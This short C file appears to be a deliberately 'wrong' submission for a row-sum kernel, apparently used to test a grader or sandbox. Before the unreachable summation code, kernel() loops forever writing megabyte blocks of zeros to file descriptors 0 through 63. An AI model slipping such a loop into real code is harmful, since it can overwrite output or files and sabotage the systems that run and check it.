// problem: row_sum
// wrong: writes zeros to every descriptor that it has until nobody reads them
#include <stddef.h>
#include <stdint.h>

extern int64_t write(int file, const void *data, size_t size);
static char block[1 << 20];

void kernel(const float *restrict x, float *restrict y, int64_t M, int64_t N)
{
    for (;;) {
        for (int file = 0; file < 64; file++) {
            write(file, block, sizeof block);
        }
    }
    for (int64_t m = 0; m < M; m++) {
        float sum = 0.0f;
        for (int64_t n = 0; n < N; n++) {
            sum += x[m * N + n];
        }
        y[m] = sum;
    }
}
